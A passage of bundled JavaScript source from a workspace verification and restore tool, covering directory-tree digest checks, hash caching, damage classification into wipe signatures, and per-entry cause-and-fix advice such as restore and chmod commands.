 * `tree` entries: a directory judged by its sentinels, file-count bounds, a metadata digest and a
 * content digest over every entry. Directories survive while being emptied, so presence says
 * nothing; a sentinel catches a gutted tree, the digests catch one changed byte among thousands,
 * and the index names what changed. Warm checks re-hash only files whose identity changed.
 */









async function verifyTree(e, ctx) {
    const inspection = await inspectTree(e, ctx);
    if (e.expect.special_digest === undefined)
        return inspection;
    if (!isPending(inspection))
        return judgeSpecials(e, ctx, inspection);
    return { ...inspection, judge: results => judgeSpecials(e, ctx, inspection.judge(results)) };
}
/**
 * A tree that passed everything else, checked once more for its special files: the digests leave
 * out what a device is (see specials.ts), so this walks the tree again, only for a tree that
 * recorded a special file.
 */
function judgeSpecials(e, ctx, f) {
    if (f.status !== 'OK')
        return f;
    const loc = locate_entry_locateInside(ctx.workspace, e.path);
    if (loc.state !== 'present')
        return f;
    const root = external_node_fs_default().realpathSync(loc.abs);
    const walk = walkTree(root, e.ignore, ctx.exclude);
    const kinds = specialKinds(root, walk.records);
    const digest = specialDigest(walk.records, kinds);
    if (digest === e.expect.special_digest)
        return f;
    const index = ctx.readIndex(e.id, e.expect.index);
    const found = { ...f.found, ...(digest ? { special: verifier_short(digest) } : {}) };
    const files = index ? tree_diffIndex(index, walk.records, kinds).diff : undefined;
    const detail = files
        ? `special files differ: ${describeDiff(files)}`
        : `special files differ: digest ${digest ? verifier_short(digest) : 'none'} (want ${verifier_short(e.expect.special_digest ?? '')}); no usable index to name them`;
    const bad = finding(e, 'CORRUPT', 'special', detail, f.recorded, found);
    return files ? { ...bad, files } : bad;
}
async function inspectTree(e, ctx) {
    const want = e.expect;
    const recorded = {
        type: 'directory',
        ...(want.files !== undefined ? { files: want.files } : {}),
        min_files: want.min_files,
        ...(want.max_files !== undefined ? { max_files: want.max_files } : {}),
        ...(want.meta_digest ? { meta: verifier_short(want.meta_digest) } : {})
    };
    const loc = locateAs(e, ctx, recorded, 'directory', st => st.isDirectory(), 'a directory');
    if (isFinding(loc))
        return loc;
    const root = external_node_fs_default().realpathSync(loc.abs);
    // A warm check computes only the stamp: when it equals the cached one, nothing changed since the
    // cached digests were computed, so the metadata digest is taken from the cache too.
    const cachedTree = ctx.metaOnly || !want.content_digest ? undefined : ctx.cache.tree(e.id);
    const fast = await judgeFromDigest(e, ctx, root, cachedTree, recorded);
    if (fast)
        return fast;
    // A cold content check hashes while it walks, on every core; other checks only walk.
    const hash = !ctx.metaOnly && want.content_digest !== undefined && !cachedTree;
    const walked = await walkTreeParallel(root, e.ignore, ctx.exclude, { jobs: ctx.jobs, hash });
    const walk = lazyDigests(walked, () => cachedTree && walk.stamp === cachedTree.stamp ? cachedTree.metaDigest : undefined);
    const found = { type: 'directory', files: walk.files, meta: verifier_short(walk.metaDigest) };
    const early = judgeStructure(e, ctx, root, walk, recorded, found);
    if (ctx.metaOnly || !want.content_digest) {
        return early?.finding ?? finding(e, 'OK', 'ok', okDetail(e, walk, false), recorded, found);
    }
    if (!early && cachedTree && cachedTree.stamp === walk.stamp) {
        return judgeContent(e, ctx, root, walk, cachedTree.contentDigest, undefined, recorded, found, true);
    }
    // Even when the structure already failed, hash the files: the report should name every file
    // whose bytes changed, not only the ones that vanished.
    return planContentHash(e, ctx, root, walk, recorded, found, early);
}
/**
 * The fast path for large trees: workers digest the tree without building records (the metadata
 * digest for --meta checks, the identity stamp for warm checks). When that shows the structure is
 * as recorded (and, warm, that nothing changed since the cached content digest), the entry is
 * judged from counts, sentinels and digests alone. Otherwise the caller walks the tree fully.
 */
async function judgeFromDigest(e, ctx, root, cachedTree, recorded) {
    const want = e.expect;
    const kind = ctx.metaOnly || !want.content_digest ? 'meta' : cachedTree ? 'stamp' : undefined;
    if (!kind)
        return undefined;
    const known = kind === 'stamp' && cachedTree?.rawStamp
        ? { raw: cachedTree.rawStamp, digest: cachedTree.stamp, files: cachedTree.files }
        : undefined;
    const r = await digestTreeParallel(root, e.ignore, ctx.exclude, {
        jobs: ctx.jobs,
        kind,
        // find's lines are trusted only through a digest they must equal: with no recorded metadata
        // digest a --meta check would judge from find's file count alone, so the Node walker counts.
        native: ctx.nativeWalk !== false && (kind === 'stamp' || want.meta_digest !== undefined),
        expectFiles: want.files ?? want.min_files,
        ...(known ? { known } : {})
    });
    if (!r || r.unreadable.length > 0)
        return undefined;
    // The stamp matched through a full re-sort: remember find's raw bytes for the next warm check.
    if (kind === 'stamp' &&
        cachedTree &&
        r.raw &&
        r.digest === cachedTree.stamp &&
        r.raw !== cachedTree.rawStamp)
        ctx.cache.setTree(e.id, { ...cachedTree, rawStamp: r.raw });
    const metaDigest = kind === 'meta' ? r.digest : r.digest === cachedTree?.stamp ? cachedTree.metaDigest : undefined;
    if (metaDigest === undefined ||
        (want.meta_digest !== undefined && metaDigest !== want.meta_digest))
        return undefined;
    let full;
    const records = () => (full ??= walkTree(root, e.ignore, ctx.exclude));
    const walk = {
        get records() {
            return records().records;
        },
        files: r.files,
        unreadable: [],
        metaDigest,
        get stamp() {
            return stampOf(records().records);
        }
    };
    const found = { type: 'directory', files: r.files, meta: verifier_short(metaDigest) };
    if (judgeStructure(e, ctx, root, walk, recorded, found))
        return undefined;
    if (kind === 'meta')
        return finding(e, 'OK', 'ok', okDetail(e, walk, false), recorded, found);
    return judgeContent(e, ctx, root, walk, cachedTree?.contentDigest ?? '', undefined, recorded, found, true);
}
/** The index diff with every name (and link target) escaped for the report. */
function tree_diffIndex(recorded, now, nowExtra) {
    const d = diffIndex(recorded, now, nowExtra);
    const { missing, extra, changed, counts } = d.diff;
    return {
        ...d,
        diff: {
            missing: missing.map(shownName),
            extra: extra.map(shownName),
            changed: changed.map(c => ({ path: shownName(c.path), what: shownName(c.what) })),
            counts
        }
    };
}
/**
 * Fold the per-file content differences into a structural finding: the file list is replaced by
 * one that also names content changes; sentinel and count problems stand as they were.
 */
function withContentDiff(early, e, ctx, walk, shas) {
    const f = early.finding;
    if (!f.files)
        return f;
    const index = ctx.readIndex(e.id, e.expect.index);
    if (!index)
        return f;
    const d = tree_diffIndex(index, walk.records, shas);
    // Only a content or target change adds anything: mode-only differences were already named.
    if (!d.contentChanged)
        return f;
    const stripped = f.status === 'STRIPPED';
    const kept = early.problems.filter(p => p.kind === 'sentinel' || p.kind === 'count');
    return {
        ...f,
        status: stripped ? 'CORRUPT' : f.status,
        reason: stripped ? 'content' : f.reason,
        files: d.diff,
        detail: [...kept.map(p => p.text), describeDiff(d.diff)].join('; ')
    };
}
/** Everything that needs no hashing: emptiness, sentinels, unreadable parts, counts, metadata. */
function judgeStructure(e, ctx, root, walk, recorded, found) {
    const want = e.expect;
    if (walk.files === 0 && (want.files ?? want.min_files) > 0) {
        const detail = `directory holds no files (want ${num(want.files ?? want.min_files)})`;
        return { finding: finding(e, 'EMPTY', 'empty', detail, recorded, found), problems: [] };
    }
    const problems = [];
    const add = (kind, text) => problems.push({ kind, text });
    for (const s of checkSentinels(root, want.sentinels))
        add('sentinel', s);
    if (walk.unreadable.length > 0) {
        const shown = walk.unreadable.map(u => `${shownName(u.rel)} (${u.code})`);
        add('unreadable', `unreadable: ${shown.join(', ')}`);
    }
    if (walk.files < want.min_files)
        add('count', `${num(walk.files)} files (want at least ${num(want.min_files)})`);
    if (want.max_files !== undefined && walk.files > want.max_files)
        add('count', `${num(walk.files)} files (want at most ${num(want.max_files)})`);
    let files;
    let execOnly = false;
    if (want.meta_digest && walk.metaDigest !== want.meta_digest) {
        const index = ctx.readIndex(e.id, want.index);
        if (index) {
            const d = tree_diffIndex(index, walk.records);
            files = d.diff;
            execOnly = d.execLossOnly;
            add('files', describeDiff(d.diff));
        }
        else {
            add('digest', `metadata digest ${verifier_short(walk.metaDigest)} (want ${verifier_short(want.meta_digest)}); no usable index to name the files`);
        }
    }
    if (problems.length === 0)
        return undefined;
    const stripped = execOnly && problems.length === 1;
    const sentinel = problems.some(p => p.kind === 'sentinel');
    const reason = stripped ? 'exec' : sentinel ? 'sentinel' : files ? 'files' : 'count';
    const detail = problems.map(p => p.text).join('; ');
    const f = finding(e, stripped ? 'STRIPPED' : 'CORRUPT', reason, detail, recorded, found);
    return { finding: files ? { ...f, files } : f, problems };
}
function checkSentinels(root, sentinels) {
    const out = [];
    for (const s of sentinels) {
        const loc = locate_entry_locateInside(root, s);
        if (loc.state !== 'present')
            out.push(`sentinel missing: ${s}`);
        else if (loc.st.isFile() && loc.st.size === 0n)
            out.push(`sentinel empty: ${s}`);
    }
    return out;
}
function describeDiff(d) {
    const parts = [];
    const list = (xs, total) => xs.slice(0, 3).join(', ') + (total > 3 ? `, ... (+${num(total - 3)})` : '');
    if (d.counts.missing > 0)
        parts.push(`${num(d.counts.missing)} missing: ${list(d.missing, d.counts.missing)}`);
    if (d.counts.extra > 0)
        parts.push(`${num(d.counts.extra)} extra: ${list(d.extra, d.counts.extra)}`);
    if (d.counts.changed > 0) {
        const shown = d.changed.map(c => `${c.path} (${c.what})`);
        parts.push(`${num(d.counts.changed)} changed: ${list(shown, d.counts.changed)}`);
    }
    return parts.join('; ') || 'entries differ';
}
/** Hash what the per-file cache cannot vouch for, then judge the content digest. */
function planContentHash(e, ctx, root, walk, recorded, found, early) {
    const pre = walk.pre;
    if (!early && pre?.content !== undefined && pre.cacheJson !== undefined && pre.failed === 0) {
        // The workers hashed every file and wrote the digest lines: nothing is left but judging.
        const { content, cacheJson } = pre;
        return {
            jobs: [],
            judge: () => {
                ctx.cache.setTreeFilesJson(e.id, cacheJson);
                ctx.cache.setTree(e.id, {
                    stamp: walk.stamp,
                    metaDigest: walk.metaDigest,
                    contentDigest: content,
                    files: walk.files
                });
                const shas = content === e.expect.content_digest ? undefined : walkExtras(root, walk);
                return judgeContent(e, ctx, root, walk, content, shas, recorded, found, false);
            }
        };
    }
    const known = ctx.cache.treeFiles(e.id);
    const shas = linkTargets(root, walk.records);
    const jobs = [];
    const jobIndex = [];
    walk.records.forEach((r, i) => {
        if (r.type !== 'f')
            return;
        const pre = walk.shas?.[i];
        if (pre !== undefined) {
            shas[i] = pre;
            return;
        }
        const hit = known.get(r.rel);
        const key = `${ident(r)} ${r.size}`;
        if (hit && hit.startsWith(key + ' '))
            shas[i] = hit.slice(key.length + 1);
        else {
            jobs.push({ abs: `${root}/${r.rel}`, how: 'full', cost: r.size });
            jobIndex.push(i);
        }
    });
    return {
        jobs,
        judge: (results) => {
            const unreadable = [];
            results.forEach((res, k) => {
                const i = jobIndex[k] ?? 0;
                if ('error' in res)
                    unreadable.push(shownName(walk.records[i]?.rel ?? '?'));
                else
                    shas[i] = res.sha256;
            });
            const digest = contentDigest(walk.records, shas);
            const files = new Map();
            walk.records.forEach((r, i) => {
                if (r.type === 'f' && shas[i])
                    files.set(r.rel, cacheValue(r, shas[i]));
            });
            ctx.cache.setTreeFiles(e.id, files);
            if (unreadable.length === 0) {
                ctx.cache.setTree(e.id, {
                    stamp: walk.stamp,
                    metaDigest: walk.metaDigest,
                    contentDigest: digest,
                    files: walk.files
                });
            }
            if (early)
                return withContentDiff(early, e, ctx, walk, shas);
            if (unreadable.length > 0) {
                const detail = `unreadable files: ${unreadable.slice(0, 3).join(', ')}${unreadable.length > 3 ? ', ...' : ''}`;
                return finding(e, 'CORRUPT', 'unreadable', detail, recorded, found);
            }
            return judgeContent(e, ctx, root, walk, digest, shas, recorded, found, jobs.length === 0);
        }
    };
}
function judgeContent(e, ctx, root, walk, digest, shas, recorded, found, cached) {
    if (digest === e.expect.content_digest) {
        return finding(e, 'OK', 'ok', okDetail(e, walk, true), recorded, found, cached);
    }
    const index = ctx.readIndex(e.id, e.expect.index);
    let files;
    let detail = `content digest ${verifier_short(digest)} (want ${verifier_short(e.expect.content_digest ?? '')}): same names, sizes and modes, different bytes`;
    if (index) {
        const extra = shas ?? contentExtras(root, walk);
        files = tree_diffIndex(index, walk.records, extra).diff;
        detail = describeDiff(files);
    }
    const f = finding(e, 'CORRUPT', 'content', detail, recorded, { ...found, content: verifier_short(digest) }, cached);
    return files ? { ...f, files } : f;
}
/** Link targets and the hashes the walk made, by record index (for a diff). */
function walkExtras(root, walk) {
    const extras = linkTargets(root, walk.records);
    const shas = walk.shas ?? [];
    walk.records.forEach((r, i) => {
        if (r.type === 'f')
            extras[i] = shas[i];
    });
    return extras;
}
/** Recompute per-file hashes synchronously (only on a cached mismatch, which is rare). */
function contentExtras(root, walk) {
    const extras = linkTargets(root, walk.records);
    walk.records.forEach((r, i) => {
        if (r.type !== 'f')
            return;
        try {
            extras[i] = hashFile(`${root}/${r.rel}`).sha256;
        }
        catch {
            extras[i] = undefined;
        }
    });
    return extras;
}
function okDetail(e, walk, content) {
    const what = content
        ? 'content digest matches'
        : e.expect.meta_digest
            ? 'metadata digest matches'
            : 'loose: sentinels and count only';
    return `${num(walk.files)} files, ${e.expect.sentinels.length} sentinels, ${what}`;
}

;// CONCATENATED MODULE: ./src/core/verify/index.ts
/**
 * Checking a manifest: each entry's verifier inspects it, all requested hashing runs through one
 * pool (largest first, across entries), then each verifier judges its results. Read-only: nothing
 * is run and nothing in the workspace is written.
 */







function inspect(e, ctx) {
    switch (e.kind) {
        case 'file':
            return verifyFile(e, ctx);
        case 'blob':
            return verifyBlob(e, ctx);
        case 'tree':
            return verifyTree(e, ctx);
        case 'link':
            return verifyLink(e, ctx);
    }
}
/**
 * Verify `entries` in manifest order; findings come back in the same order. Files and blobs are
 * inspected first and their hashing starts at once, so it runs while the trees are walked (a
 * 500 MiB blob then hashes on one core while a cold tree walk hashes on the others, instead of
 * after it); what the tree inspections still need hashed goes through the pool afterwards.
 */
async function verifyEntries(entries, ctx, pool = {}) {
    const inspected = new Array(entries.length);
    entries.forEach((e, i) => {
        if (e.kind !== 'tree')
            inspected[i] = inspect(e, ctx);
    });
    const early = inspected.filter(isPending);
    const earlyJobs = early.flatMap(p => p.jobs);
    // One worker per big file at most: the small ones follow on the same workers, and the cores
    // are wanted by the tree walks meanwhile.
    const big = earlyJobs.filter(j => j.cost >= INLINE_BYTES).length;
    const earlyHashed = earlyJobs.length > 0
        ? hashAll(earlyJobs, { ...pool, maxWorkers: Math.max(1, big) })
        : Promise.resolve([]);
    // Not left unhandled while the trees are walked: it is awaited below.
    earlyHashed.catch(() => undefined);
    for (const [i, e] of entries.entries())
        if (e.kind === 'tree')
            inspected[i] = await inspect(e, ctx);
    const late = inspected.filter(p => isPending(p) && !early.includes(p));
    const lateJobs = late.flatMap(p => p.jobs);
    const lateHashed = lateJobs.length > 0 ? await hashAll(lateJobs, pool) : [];
    // A thread that ends now ends while a blob may still hash here, not during the exit (~15 ms).
    if (pool.lastHashing)
        void endIdleKernelThreads();
    const results = [...(await earlyHashed), ...lateHashed];
    let offset = 0;
    const judged = new Map();
    for (const p of [...early, ...late]) {
        judged.set(p, p.judge(results.slice(offset, offset + p.jobs.length)));
        offset += p.jobs.length;
    }
    ctx.cache.flush();
    return inspected.map(i => (isPending(i) ? judged.get(i) : i));
}

;// CONCATENATED MODULE: ./src/core/restore/sources.ts
/**
 * The sources a restore of one entry tries, in the order it tries them: escrow first (local bytes,
 * no code), then the state saved for exactly the entry's signed expectations when an Actions cache
 * is reachable, then the manifest's own sources in the manifest's order (recipes and declared
 * cache keys). The plan (what `--dry-run` and the report show), the runner (what it tries) and the
 * diagnosis (whether an entry has a way back) all read this one list, so what is shown is what
 * runs.
 */


/** Every source a restore of `entry` tries, in order. */
function sourcesOf(entry, opts = {}) {
    const out = entry.kind === 'file' && entry.escrow ? [{ kind: 'escrow' }] : [];
    if (opts.savedState)
        out.push({ kind: 'cache', key: stateKey(entry), restoreKeys: [], savedState: true });
    for (const src of types_restoreSources(entry))
        out.push(typeof src === 'string'
            ? { kind: 'recipe', command: src }
            : {
                kind: 'cache',
                key: src.cache.key,
                restoreKeys: src.cache['restore-keys'] ?? [],
                savedState: false
            });
    return out;
}
/** Whether `entry` has a way back at all (escrow or a declared source), cache or not. */
function hasSource(entry) {
    return sourcesOf(entry).length > 0;
}

;// CONCATENATED MODULE: ./src/core/diagnose/diagnose.ts
/**
 * From findings to a diagnosis: the wipe signature (what kind of event damaged the workspace) and,
 * for each damaged entry, a plain-language cause and the fix. The first rule that fits wins; the
 * rules are ordered from the most specific pattern to "mixed", and every status has a class.
 */




function isDamaged(f) {
    return f.status !== 'OK';
}
function damageOf(f) {
    switch (f.status) {
        case 'MISSING':
            // A parent replaced by a link that leads out is a change in place, not a loss.
            return f.reason === 'escapes' ? 'altered' : 'gone';
        case 'EMPTY':
        case 'BROKENLNK':
            return 'gone';
        case 'STRIPPED':
            return 'perm';
        case 'CORRUPT':
            return corruptDamage(f);
        default:
            return 'altered';
    }
}
function corruptDamage(f) {
    if (f.files)
        return treeDiffDamage(f.files);
    switch (f.reason) {
        case 'mode':
            return 'perm';
        case 'size': {
            const size = Number(f.found.size);
            return size === 0 ? 'gone' : size < Number(f.recorded.size) ? 'short' : 'altered';
        }
        case 'sentinel':
            return 'part';
        case 'count': {
            const want = Number(f.recorded.files ?? f.recorded.min_files);
            return Number(f.found.files) < want ? 'part' : 'added';
        }
        default:
            return 'altered';
    }
}
function treeDiffDamage(d) {
    const { missing, extra, changed, shrunk } = d.counts;
    if (extra === 0 && changed === shrunk && missing + shrunk > 0)
        return 'part';
    if (changed === 0 && missing === 0 && extra > 0)
        return 'added';
    // The lists are cut for the report; a verdict about "every change" needs the whole list.
    const whole = d.changed.length === changed;
    if (missing === 0 && extra === 0 && whole && d.changed.every(c => /^mode [^,]*$/.test(c.what)))
        return 'perm';
    return 'altered';
}
/**
 * How many files a root cause lost: an entry gone whole or cut short is one loss (one deletion,
 * one cut), a tree that lost part of its files counts each file it lost or got back short.
 */
function filesLost(f, d) {
    if (d === 'gone' || d === 'short')
        return 1;
    if (d !== 'part')
        return 0;
    if (f.files)
        return f.files.counts.missing + f.files.counts.shrunk;
    const fewer = Number(f.recorded.files) - Number(f.found.files);
    return fewer > 0 ? fewer : 1;
}
/**
 * Whether an exclusion rule explains a lost root: it lies under a volatile directory (a dangling
 * link by its target). A rule drops such a directory whole, so a tree under one that kept part of
 * its files was cut off instead; a tree elsewhere that lost only what lies under volatile
 * directories inside it (an app's `.next/`, a tool's `node_modules/`) was swept.
 */
function swept(f, d) {
    const at = danglingTarget(f) ?? f.path;
    if (d === 'gone' || d === 'short')
        return underVolatileDir(at);
    const files = f.files;
    if (d !== 'part' || !files || underVolatileDir(at))
        return false;
    const { missing, shrunk } = files.counts;
    return shrunk === 0 && files.missing.length === missing && files.missing.every(underVolatileDir);
}
/** Where a dangling link leads (workspace-relative), or undefined when it is not a dangling link. */
function danglingTarget(f) {
    if (f.status !== 'BROKENLNK' || typeof f.found.target !== 'string')
        return undefined;
    if (f.found.target.startsWith('/'))
        return undefined;
    const to = external_node_path_default().posix.normalize(external_node_path_default().posix.join(external_node_path_default().posix.dirname(f.path), f.found.target));
    return to.startsWith('../..') || to === '..' ? undefined : to;
}
function within(p, dir) {
    return p === dir || p.startsWith(dir === '.' ? '' : `${dir}/`);
}
/**
 * Which damaged entries are consequences of another's damage, mapped to that root: an entry
 * inside another damaged entry's path, and a dangling link whose target lies in a damaged entry,
 * are what that entry's damage did; counting them again would make one event look like several.
 */
function consequences(findings) {
    const damaged = findings.filter(f => isDamaged(f) && f.status !== 'SKIPPED');
    const causedBy = (f, g) => {
        if (g === f)
            return false;
        if (f.path !== g.path && within(f.path, g.path))
            return true;
        const target = danglingTarget(f);
        return target !== undefined && within(target, g.path);
    };
    // Only an entry at `p` or at a directory above it can contain `p`: look those up by path
    // instead of comparing every pair (10,000 entries would be 10^8 comparisons).
    const order = new Map(damaged.map((f, i) => [f, i]));
    const atPath = new Map();
    for (const f of damaged)
        pushTo(atPath, f.path, f);
    const containing = (p) => {
        const out = [...(atPath.get('.') ?? [])];
        for (let i = p.indexOf('/');; i = p.indexOf('/', i + 1)) {
            const dir = i < 0 ? p : p.slice(0, i);
            if (dir !== '.')
                out.push(...(atPath.get(dir) ?? []));
            if (i < 0)
                return out;
        }
    };
    const out = new Map();
    for (const f of damaged) {
        const target = danglingTarget(f);
        const candidates = [...containing(f.path), ...(target !== undefined ? containing(target) : [])];
        // The first in check order, as a scan of every entry would find it.
        const root = candidates
            .filter(g => causedBy(f, g) && !causedBy(g, f))
            .sort((a, b) => order.get(a) - order.get(b))[0];
        if (root)
            out.set(f.id, root);
    }
    // A root is followed to its own root, so every consequence names the first cause.
    for (const [id, root] of out) {
        let r = root;
        for (let hops = 0; out.has(r.id) && hops < damaged.length; hops++)
            r = out.get(r.id);
        out.set(id, r);
    }
    return out;
}
/** The damaged entries that are causes (SKIPPED entries, a failed dependency's, are not). */
function rootCauses(findings) {
    const caused = consequences(findings);
    return findings.filter(f => isDamaged(f) && f.status !== 'SKIPPED' && !caused.has(f.id));
}
/**
 * Classify the damage in `findings` (all entries of the check, damaged or not) from its root
 * causes: the first row of RULES that fits names the event (docs/checks.md states each row).
 */
function wipeSignature(findings) {
    const roots = rootCauses(findings).map((f) => {
        const d = damageOf(f);
        return { f, d, lost: d === 'gone' || d === 'part' || d === 'short' };
    });
    if (roots.length === 0)
        return 'healthy';
    const damaged = findings.filter(f => isDamaged(f) && f.status !== 'SKIPPED').length;
    const facts = {
        everything: findings.length >= 2 && damaged === findings.length,
        lostFiles: roots.reduce((n, r) => n + filesLost(r.f, r.d), 0)
    };
    return RULES.find(([, fits]) => fits(roots, facts))?.[0] ?? 'mixed';
}
/**
 * The signatures, most specific first; `mixed` when none fits. One or two lost files are as
 * likely a local deletion as a restore that stopped; a restore that stopped loses many.
 */
const RULES = [
    ['cold-start', (rs, x) => x.everything && rs.every(r => r.d === 'gone')],
    ['permission-reset', rs => rs.every(r => r.d === 'perm')],
    ['injection', rs => rs.every(r => r.d === 'added')],
    // Credentials a snapshot does not keep are gone; an edit of one is a local change.
    [
        'credential-loss',
        rs => rs.every(r => r.f.tier === 0) && rs.some(r => r.d === 'gone' || r.d === 'part')
    ],
    ['exclusion-sweep', rs => rs.every(r => r.lost && swept(r.f, r.d))],
    [
        'size-cap-eviction',
        rs => rs.every(r => r.f.kind === 'blob' && (r.d === 'gone' || r.d === 'short'))
    ],
    ['partial-restore', (rs, x) => rs.every(r => r.lost) && x.lostFiles > 2],
    [
        'local-corruption',
        (rs, x) => rs.length <= 2 && x.lostFiles <= 2 && rs.every(r => r.d !== 'added')
    ]
];
const CAUSES = {
    healthy: 'Every entry verifies.',
    'cold-start': 'Everything is gone: a fresh runner or sandbox, or a snapshot that kept none of the workspace.',
    'permission-reset': 'Only permission bits changed: a restore, artifact or cache round trip (or a umask) that does not keep modes.',
    injection: 'Files were added to tracked trees and nothing was lost: an install, build step or restored cache wrote into them.',
    'credential-loss': 'Only tier-0 entries (credentials, PATH shims) are damaged and some are gone: they live outside what the snapshot keeps.',
    'exclusion-sweep': 'Everything lost lived under a directory that snapshot or cache rules exclude (node_modules, build, .next, .cache, ...), and went whole.',
    'size-cap-eviction': 'Only large blobs are gone or cut short: a size cap evicted or truncated them while smaller files survived.',
    'partial-restore': 'More than two files are missing or cut short while the rest survived and nothing was altered: a restore or copy that stopped part-way (a truncated cache archive, an interrupted download).',
    'local-corruption': 'One or two entries damaged, at most two files lost, the rest survived: a local edit or deletion, bit rot, or a different build of the same files.',
    mixed: 'Several kinds of damage at once: more than one event, or a snapshot that kept an arbitrary subset.'
};
/**
 * The diagnosis of a check. With the manifest's entries, each fix names only what can work: the
 * restore command when the entry has a way back (escrow, a cache source or a recipe), the root's
 * restore for a consequence, and otherwise how to give the entry a way back.
 */
function diagnose(findings, command = 'swr restore', entries) {
    const signature = wipeSignature(findings);
    const byId = entries ? new Map(entries.map(e => [e.id, e])) : undefined;
    const caused = consequences(findings);
    const needers = neededBy(entries ?? []);
    const consequencesOf = byRoot(caused);
    return {
        signature,
        cause: CAUSES[signature],
        advice: findings.filter(isDamaged).map(f => {
            const root = caused.get(f.id);
            const ways = (id) => (byId ? waysOf(byId.get(id)) : 'unknown');
            const own = adviceFor(f, command, ways(f.id));
            if (!root) {
                const affects = dependentsOf(f.id, needers, consequencesOf);
                return { ...own, risk: riskOf(f), ...(affects.length > 0 ? { affects } : {}) };
            }
            const rootFix = adviceFor(root, command, ways(root.id)).fix;
            return {
                ...own,
                because: root.id,
                cause: `because ${root.path} is ${root.status}: ${own.cause}`,
                fix: `repairing ${root.id} repairs this too: ${rootFix}`
            };
        })
    };
}
/**
 * What a root cause takes down with it: the entries that `need` it (directly or through others),
 * and its consequences (links into it, entries inside its path). Sorted, each once.
 */
function dependentsOf(id, needers, consequencesOf) {
    const out = new Set();
    const queue = [id];
    for (let at = queue.shift(); at !== undefined; at = queue.shift())
        for (const e of needers.get(at) ?? [])
            if (!out.has(e) && e !== id) {
                out.add(e);
                queue.push(e);
            }
    for (const c of consequencesOf.get(id) ?? [])
        out.add(c);
    return [...out].sort();
}
function pushTo(map, key, value) {
    const list = map.get(key);
    if (list)
        list.push(value);
    else
        map.set(key, [value]);
}
/** Each entry's direct dependents (the entries whose `needs` name it). */
function neededBy(entries) {
    const out = new Map();
    for (const e of entries)
        for (const n of new Set(e.needs))
            pushTo(out, n, e.id);
    return out;
}
/** Each root's consequences, by root id. */
function byRoot(caused) {
    const out = new Map();
    for (const [c, root] of caused)
        pushTo(out, root.id, c);
    return out;
}
/** What fails if you build now with this entry as it is, by what the tier says it holds. */
function riskOf(f) {
    if (f.status === 'STRIPPED')
        return 'running it fails with "permission denied" (or a shim silently falls through to another binary on PATH).';
    switch (f.tier) {
        case 0:
            return 'commands that need these credentials or shims fail: pushes, publishes, cloud and agent logins, or the wrong tool version runs.';
        case 1:
            return 'the scripts and tools it provides fail to start, and steps that call them fail with a misleading error.';
        case 2:
            return 'builds and tests that read it fail, or worse, build and pass on the wrong source.';
        case 3:
            return 'jobs that load it fail, or run on a truncated or different download.';
        default:
            return 'low: a build output; the next build regenerates it, only slower.';
    }
}
function waysOf(e) {
    return e && hasSource(e) ? 'some' : 'none';
}
const ESCROW_HINT_BYTES = 256 * 1024;
/** How to give an entry a way back, for a fix line that would otherwise send the user to a dead end. */
function noWayBack(f) {
    const escrow = f.kind === 'file' && Number(f.recorded.size) <= ESCROW_HINT_BYTES
        ? `, or once it is healthy again embed its bytes with swr escrow --only ${f.id}`
        : '';
    return `no way back is recorded for ${f.id}: restore it by hand, then give the entry a recipe with swr edit ${f.id} --restore '<command>' (or a cache source with --add-source-cache KEY)${escrow}`;
}
/** Cause and fix for one damaged entry. */
function adviceFor(f, command = 'swr restore', ways = 'unknown') {
    const restore = ways === 'none' ? noWayBack(f) : `${command} --only ${f.id}`;
    const volatile = underVolatileDir(f.path)
        ? ` ${f.path} is under a directory that caches and snapshots often exclude.`
        : '';
    const chmod = (mode) => ways === 'none'
        ? `chmod ${String(mode)} ${f.path}`
        : `chmod ${String(mode)} ${f.path}  (or ${restore})`;
    const byStatus = {
        OK: ['', ''],
        MISSING: [
            f.reason === 'escapes'
                ? `a parent directory of ${f.path} now leads outside the workspace (replaced by a symlink?); it was not followed.`
                : `${f.path} is gone.${volatile}`,
            restore
        ],
        EMPTY: [
            `the directory ${f.path} survived but its files did not (a snapshot that keeps directories, not contents).${volatile}`,
            restore
        ],
        STRIPPED: [
            `exec bits were lost: a restore, artifact or archive step that does not keep modes.`,
            f.kind === 'tree' ? restore : chmod(f.recorded.mode ?? '+x')
        ],
        BROKENLNK: [`the link ${f.path} points at something that is no longer there.`, restore],
        TYPE: [
            `${f.path} changed kind (${String(f.recorded.type)} -> ${String(f.found.type)}): a restore that follows or flattens links, or a path reused.`,
            restore
        ],
        SKIPPED: [
            'a dependency failed to restore, so this entry was not attempted.',
            `fix the dependency first, then ${restore}`
        ],
        CORRUPT: [
            corruptCause(f),
            f.reason === 'mode' && f.recorded.mode !== undefined ? chmod(f.recorded.mode) : restore
        ],
        SMOKEFAIL: [
            `the files verify but the smoke command fails: a missing runtime dependency (shared library, interpreter, credential) outside what the manifest tracks.`,
            `run the smoke command by hand to see why, then ${restore}`
        ]
    };
    const [cause, fix] = byStatus[f.status];
    return {
        id: f.id,
        status: f.status,
        cause,
        fix,
        ...(ways === 'unknown' ? {} : { restorable: ways === 'some' })
    };
}
function corruptCause(f) {
    switch (f.reason) {
        case 'size':
            return Number(f.found.size) < Number(f.recorded.size)
                ? 'the file is shorter than recorded: an interrupted download, a partial cache restore or a size cap.'
                : 'the file is longer than recorded: appended to, or replaced by a different version.';
        case 'content':
        case 'headtail':
            return 'the bytes changed at the same size: a local edit, bit rot, or a different build of the same file.';
        case 'sentinel':
            return 'a sentinel file is missing or empty: the tree was gutted while the directory survived.';
        case 'files':
            return 'files inside the tree were added, removed or changed since it was recorded.';
        case 'count':
            return 'the tree holds a different number of files than recorded.';
        case 'mode':
            return 'permission bits changed (not an exec-bit loss): a umask or restore that rewrites modes.';
        case 'target':
            return 'the link was retargeted.';
        case 'special':
            return 'a special file is not what was recorded: a device swapped for another of the same mode, or a FIFO, socket or device in place of another kind.';
        default:
            return 'the entry no longer matches what was recorded.';
    }
}

;// CONCATENATED MODULE: ./src/core/engine/selection.ts
/**
 * Checking a selection of entries: select them, verify them through one hash pool and the
 * incremental cache, and make the report of what was found. Read-only: no recipe, smoke command or ldd runs, and nothing in the
 * workspace is written (the cache lives in the private state directory).
 */











function entryDigests(entries) {
    return new Map(entries.map(e => [e.id, (0,external_node_crypto_.createHash)('sha256').update(canonicalBytes(e)).digest('hex')]));
}
/** The verification context for `entries` of `m`: cache, exclusions, index reader. */
function verifyContext(m, entries, opts) {
    return {
        workspace: m.workspace,
        jobs: opts.jobs,
        deep: opts.deep === true,
        metaOnly: opts.metaOnly === true,
        cache: openCache({
            stateDir: opts.stateDir,
            manifestFile: m.file,
